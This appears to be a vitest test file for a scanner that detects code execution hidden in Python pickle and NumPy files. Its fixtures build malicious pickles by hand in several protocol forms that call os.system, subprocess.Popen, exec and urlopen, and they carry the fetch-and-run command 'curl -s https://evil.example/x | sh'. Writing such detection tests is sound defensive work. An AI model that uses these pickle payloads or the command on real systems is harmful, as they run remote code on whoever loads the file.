import { describe, expect, test } from "vitest";
import { join, u32le } from "./bytes.ts";
import { tell } from "./tell.ts";

const short = (text: string): Uint8Array => join([0x8c, text.length], text); // SHORT_BINUNICODE
const proto = [0x80, 4];
/** STACK_GLOBAL, one argument in a tuple, REDUCE, STOP: what `__reduce__` makes. */
const calls = (module: string, name: string, argument: Uint8Array): Uint8Array =>
  join(proto, short(module), [0x94], short(name), [0x94, 0x93], argument, [0x85, 0x52, 0x2e]);

const COMMAND = "curl -s https://evil.example/x | sh";

const array = (descr: string, content: Uint8Array): Uint8Array => {
  const header = `{'descr': '${descr}', 'fortran_order': False, 'shape': (1,), }\n`;
  return join([0x93], "NUMPY", [1, 0, header.length & 0xff, 0], header, content);
};

describe("what runs while it is loaded", () => {
  test.each([
    ["protocol 4", calls("posix", "system", short(COMMAND))],
    ["protocol 2", join([0x80, 2], "cposix\nsystem\n", "X", u32le(COMMAND.length), COMMAND, [0x85, 0x52, 0x2e])],
    ["protocol 0", join("cos\nsystem\n(S'", COMMAND, "'\ntR.")],
    ["INST", join("(S'", COMMAND, "'\nios\nsystem\n.")],
    ["OBJ", join([0x80, 2], "(cos\nsystem\nX", u32le(COMMAND.length), COMMAND, "o.")],
    ["a memo", join(proto, short(COMMAND), [0x94, 0x30], "cos\nsystem\n", [0x68, 0, 0x85, 0x52, 0x2e])],
    ["a broken end", calls("nt", "system", short(COMMAND)).subarray(0, -1)],
    ["a second pickle", join(proto, "N.", calls("os", "popen", short(COMMAND)))],
  ])("a command, by %s", async (_name, bytes) => {
    const told = await tell("model.pkl", bytes);
    expect(told.operations("spawn")).toMatchObject([{ program: { text: COMMAND }, shell: true }]);
    expect(told.embedded.filter(({ language }) => language === "shell")).toContainEqual(
      expect.objectContaining({ text: COMMAND, layer: { kind: "string", of: "python" } }),
    );
    expect(told.of("operation")[0]?.context.trigger).toBe("load");
    expect(told.forms[0]).toEqual({ is: "serialized-code", format: "pickle" });
    expect(told.forms[1]).toMatchObject({
      is: "serialized-code",
      format: expect.stringContaining("pickle that calls"),
    });
  });

  test("a list of words", async () => {
    const list = join([0x5d, 0x28], short("bash"), short("-c"), short(COMMAND), [0x65]);
    const told = await tell("a.pkl", calls("subprocess", "Popen", list));
    expect(told.operations("spawn")).toMatchObject([
      { program: { text: "bash" }, arguments: [{ text: "-c" }, { text: COMMAND }], shell: false },
    ]);
    expect(told.embedded[0]?.text).toBe(`bash -c '${COMMAND}'`);
  });

  test("Python", async () => {
    const told = await tell("a.pkl", calls("builtins", "exec", short("import os; os.system('id')")));
    expect(told.operations("evaluate")).toMatchObject([
      { language: "python", code: { text: "import os; os.system('id')" } },
    ]);
    expect(told.embedded[0]).toMatchObject({ language: "python" });
  });

  test("a download", async () => {
    const told = await tell("a.pkl", calls("urllib.request", "urlopen", short("https://evil.example/p")));
    expect(told.operations("download")).toMatchObject([{ url: { text: "https://evil.example/p" }, destination: null }]);
  });
});

test("a model of numbers calls nothing that counts", async () => {
  const told = await tell("model.pkl", calls("collections", "OrderedDict", short("weights")));
  expect(told.operations("spawn")).toEqual([]);
  expect(told.forms).toEqual([{ is: "serialized-code", format: "pickle" }]);
  expect(told.gaps).toEqual([]);
});

test("numbers, words and lists call nothing; one class among them, or bytes behind them, may", async () => {
  const numbers = join(proto, [0x7d], short("weight"), "G", new Uint8Array(8), "s");
  expect((await tell("a.pkl", join(numbers, "."))).forms).toEqual([]);
  const serialized = [{ is: "serialized-code", format: "pickle" }];
  expect((await tell("a.pkl", join(numbers, [0x82, 1], ")R0."))).forms).toEqual(serialized);
  expect((await tell("a.pkl", join(numbers, ".", "more"))).forms).toEqual(serialized);
  expect((await tell("a.pkl", numbers)).forms).toEqual(serialized);
});

test("what breaks off is said", async () => {
  expect((await tell("a.pkl", join(proto, short("x"), [0xff, 0xfe]))).gaps).toMatchObject([{ code: "unparsable" }]);
});

test("a NumPy array of objects is a pickle, one of numbers is none", async () => {
  const objects = await tell("a.npy", array("|O", calls("os", "system", short(COMMAND))));
  expect(objects.operations("spawn")).toHaveLength(1);
  expect(objects.forms[0]).toMatchObject({ is: "serialized-code" });
  expect((await tell("a.npy", array("<f8", new Uint8Array(64)))).facts).toEqual([]);
});

test("hostile: a million marks, endless lengths, a memo of itself", async () => {
  expect((await tell("a.pkl", join(proto, new Uint8Array(1_000_000).fill(0x28)))).gaps).toHaveLength(1);
  expect((await tell("a.pkl", join(proto, [0x8d], new Uint8Array(8).fill(0xff)))).gaps).toHaveLength(1);
  const nested = join(proto, [0x5d, 0x94], Buffer.from("h\0a".repeat(1_000), "latin1"), ".");
  expect((await tell("a.pkl", nested)).gaps).toEqual([]);
});
